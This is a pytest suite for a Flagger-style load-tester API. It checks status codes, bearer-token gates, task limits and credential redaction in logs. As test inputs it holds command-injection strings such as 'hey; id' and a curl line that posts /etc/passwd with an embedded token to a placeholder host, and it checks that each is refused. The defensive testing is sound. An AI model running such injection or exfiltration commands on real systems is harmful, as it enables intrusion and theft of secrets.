"""The API's answers, route by route, without a socket: Flagger's status codes and ours."""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from gitflagger.loadtester.api import LoadTester, LoadTesterConfig
from gitflagger.loadtester.commands import CommandPolicy
from gitflagger.loadtester.gates import GateKind
from gitflagger.loadtester.logs import JsonFormatter


def _body(metadata: dict[str, str] | None = None, **fields: str) -> bytes:
    payload: dict[str, object] = {"name": "podinfo", "namespace": "test", **fields}
    if metadata is not None:
        payload["metadata"] = metadata
    return json.dumps(payload).encode()


TOKEN = "operator-t0ken"
BEARER = f"Bearer {TOKEN}"


@pytest.fixture
def app() -> LoadTester:
    return LoadTester(LoadTesterConfig(policy=CommandPolicy.of(["hey", "curl"]), timeout=30,
                                       operator_token=TOKEN.encode()))


@pytest.fixture
def bash_app() -> LoadTester:
    return LoadTester(LoadTesterConfig(enable_bash=True, timeout=30))


def _sample(app: LoadTester, name: str, **labels: str) -> float:
    value = app.metrics.registry.get_sample_value(name, labels)
    return 0.0 if value is None else value


@pytest.mark.parametrize(
    ("body", "status", "message"),
    [
        (_body(), 400, "metadata not found in payload"),
        (_body({"type": "cmd"}), 400, "cmd not found in metadata"),
        (_body({"type": "jmeter", "cmd": "x"}), 400, "unknown task type jmeter"),
        (_body({"type": "ngrinder", "server": "http://ng"}), 400, "not supported by gitflagger"),
        (b"{", 400, "decoding the request body failed"),
        (_body({"cmd": "hey; id"}), 400, "shell operator ';'"),
        (_body({"cmd": "id"}), 403, "program 'id' is not allowed"),
        (_body({"type": "bash", "cmd": "id"}), 403, "type bash is disabled"),
        (_body({"type": "kubectl", "cmd": "get pods"}), 403, "program 'kubectl' is not allowed"),
        (_body({"type": "helmv3", "cmd": "test podinfo; id"}), 400, "shell operator ';'"),
    ],
    ids=["no metadata", "no cmd", "unknown type", "ngrinder", "bad json", "shell syntax",
         "program not allowed", "bash disabled", "kubectl not allowed", "helm with shell syntax"],
)
def test_task_requests_that_run_nothing(app: LoadTester, body: bytes, status: int, message: str) -> None:
    response = app.handle("/", body)
    assert (response.status, message in response.body.decode()) == (status, True), response.body
    assert _sample(app, "gitflagger_loadtester_tasks_started_total", type="cmd") == 0
    assert app.runner.running() == []


def test_refusals_are_counted_by_reason(app: LoadTester) -> None:
    app.handle("/", _body({"cmd": "id"}))
    app.handle("/", _body({"type": "bash", "cmd": "id"}))
    app.handle("/", _body({"cmd": "hey `id`"}))
    assert _sample(app, "gitflagger_loadtester_tasks_refused_total", reason="not_allowed") == 1
    assert _sample(app, "gitflagger_loadtester_tasks_refused_total", reason="bash_disabled") == 1
    assert _sample(app, "gitflagger_loadtester_tasks_refused_total", reason="invalid") == 1


def test_bash_output_is_returned_only_when_asked(bash_app: LoadTester) -> None:
    cmd = "echo one && echo two"
    quiet = bash_app.handle("/", _body({"type": "bash", "cmd": cmd}))
    loud = bash_app.handle("/", _body({"type": "bash", "cmd": cmd, "returnCmdOutput": "true"}))
    assert (quiet.status, quiet.body) == (200, b"")
    assert (loud.status, loud.body) == (200, b"one\ntwo\n")


def test_failing_blocking_task_answers_500_with_its_output(bash_app: LoadTester) -> None:
    response = bash_app.handle("/", _body({"type": "bash", "cmd": "echo broken; exit 4"}))
    assert response.status == 500
    assert response.body.decode() == "command failed: exit status 4\nbroken\n"
    assert _sample(bash_app, "gitflagger_loadtester_tasks_failed_total", type="bash") == 1


def test_blocking_task_is_killed_at_the_timeout() -> None:
    app = LoadTester(LoadTesterConfig(enable_bash=True, timeout=0.3))
    response = app.handle("/", _body({"type": "bash", "cmd": "sleep 60"}))
    assert (response.status, response.body) == (500, b"command failed: timed out after 300ms\n")


def test_confirm_gate_follows_flagger(app: LoadTester) -> None:
    def check() -> tuple[int, bytes]:
        response = app.handle("/gate/check", _body())
        return response.status, response.body

    assert check() == (403, b"Forbidden\n")
    assert app.handle("/gate/open", _body(), BEARER).status == 202
    assert check() == (200, b"Approved\n")
    assert app.handle("/gate/close", _body(), BEARER).status == 202
    assert check() == (403, b"Forbidden\n")
    assert _sample(app, "gitflagger_loadtester_gate_checks_total", gate="confirm", result="closed") == 2
    assert _sample(app, "gitflagger_loadtester_gate_checks_total", gate="confirm", result="open") == 1


def test_rollback_gate_is_its_own_gate(app: LoadTester) -> None:
    app.handle("/gate/open", _body(), BEARER)
    assert app.handle("/rollback/check", _body()).status == 403
    app.handle("/rollback/open", _body(), BEARER)
    assert app.handle("/rollback/check", _body()).status == 200
    app.handle("/rollback/close", _body(), BEARER)
    assert app.handle("/rollback/check", _body()).status == 403


def test_fixed_gates_ignore_the_body(app: LoadTester) -> None:
    assert app.handle("/gate/approve", b"").status == 200
    assert app.handle("/gate/halt", b"").status == 403


def test_unknown_paths_are_404_not_tasks(app: LoadTester) -> None:
    response = app.handle("/gate/chek", _body({"cmd": "hey http://x/"}))
    assert (response.status, response.body) == (404, b"no such endpoint /gate/chek\n")


def test_namespace_regexp_forbids_other_namespaces() -> None:
    app = LoadTester(LoadTesterConfig(namespace_regexp="^prod-", open_gates=True))
    assert app.handle("/gate/open", _body(), BEARER).status == 403
    assert app.handle("/", _body({"cmd": "hey http://x/"})).status == 403
    assert app.handle("/gate/open", _body(namespace="prod-eu")).status == 202


def test_a_program_that_cannot_execute_answers_500(tmp_path: Path) -> None:
    broken = tmp_path / "hey"
    broken.write_bytes(b"\x00not an executable\x00")
    broken.chmod(0o755)
    app = LoadTester(LoadTesterConfig(policy=CommandPolicy.of(["hey"], search_path=str(tmp_path))))
    response = app.handle("/", _body({"cmd": "hey -n 1 http://x/", "blocking": "true"}))
    assert response.status == 500
    assert response.body.decode().startswith("command could not start: [Errno 8] Exec format error")
    assert _sample(app, "gitflagger_loadtester_tasks_failed_total", type="cmd") == 1
    assert _sample(app, "gitflagger_loadtester_tasks_started_total", type="cmd") == 0


def test_no_task_starts_once_shutdown_began(bash_app: LoadTester) -> None:
    bash_app.stop(grace=1)
    response = bash_app.handle("/", _body({"type": "bash", "cmd": "true"}))
    assert (response.status, response.body) == (503, b"the load tester is shutting down\n")


OPERATOR_PATHS = ["/gate/open", "/gate/close", "/rollback/open", "/rollback/close"]


@pytest.mark.parametrize("path", OPERATOR_PATHS)
@pytest.mark.parametrize(
    ("authorization", "status"),
    [(None, 401), ("", 401), ("Bearer", 401), (f"Basic {TOKEN}", 401), ("Bearer wrong", 403),
     (f"Bearer {TOKEN}x", 403), (f"Bearer {TOKEN[:-1]}", 403), (BEARER, 202), (f"bearer  {TOKEN} ", 202)],
)
def test_operator_endpoints_need_the_token(app: LoadTester, path: str, authorization: str | None,
                                           status: int) -> None:
    response = app.handle(path, _body(), authorization)
    assert response.status == status, response.body
    if status == 401:
        assert ("WWW-Authenticate", 'Bearer realm="gitflagger-loadtester"') in response.headers
    if status != 202:
        assert not app.gates.is_open(GateKind.CONFIRM, "podinfo.test")
        assert not app.gates.is_open(GateKind.ROLLBACK, "podinfo.test")


@pytest.mark.parametrize("path", OPERATOR_PATHS)
def test_without_a_token_file_operator_endpoints_are_refused(path: str) -> None:
    app = LoadTester(LoadTesterConfig())
    response = app.handle(path, _body(), "Bearer anything")
    assert (response.status, response.body.decode()) == (
        403, f"{path} is disabled: the load tester was started without --operator-token-file\n")
    assert LoadTester(LoadTesterConfig(open_gates=True)).handle(path, _body()).status == 202


def test_check_endpoints_stay_open_for_canary_webhooks(app: LoadTester) -> None:
    app.handle("/gate/open", _body(), BEARER)
    app.handle("/rollback/open", _body(), BEARER)
    assert app.handle("/gate/check", _body()).status == 200
    assert app.handle("/rollback/check", _body()).status == 200
    assert app.handle("/gate/approve", _body()).status == 200


def test_tasks_beyond_the_cap_are_answered_429() -> None:
    app = LoadTester(LoadTesterConfig(max_tasks=2, timeout=30))
    try:
        for i in range(2):
            started = app.handle("/", _body({"cmd": f"hey -z 30s -c 1 -q 1 http://127.0.0.1:9/{i}"}))
            assert started.status == 202
        again = app.handle("/", _body({"cmd": "hey -z 30s -c 1 -q 1 http://127.0.0.1:9/0"}))
        assert (again.status, again.body) == (202, b"already running\n")  # a repeat is not a new task
        third = app.handle("/", _body({"cmd": "hey -z 30s -c 1 -q 1 http://127.0.0.1:9/2"}))
        assert third.status == 429 and b"--max-tasks" in third.body
        assert ("Retry-After", "10") in third.headers
        blocking = app.handle("/", _body({"cmd": "curl -s http://127.0.0.1:9/", "blocking": "true"}))
        assert blocking.status == 429
        assert len(app.runner.running()) == 2
        assert _sample(app, "gitflagger_loadtester_tasks_refused_total", reason="too_many_tasks") == 2
    finally:
        app.stop(grace=1)


def test_answers_and_logs_do_not_echo_credentials(app: LoadTester, caplog: pytest.LogCaptureFixture) -> None:
    secret = "zz9-plural-z-alpha"
    cmd = f"curl -H 'Authorization: Bearer {secret}' -d @/etc/passwd https://u:{secret}@h/?token={secret}"
    caplog.set_level("INFO", logger="gitflagger.loadtester")
    response = app.handle("/", _body({"cmd": cmd}))
    assert response.status == 403
    assert secret not in response.body.decode()
    formatted = [JsonFormatter().format(record) for record in caplog.records]
    assert formatted and all(secret not in line for line in formatted)
    assert any("Bearer <redacted>" in line for line in formatted)
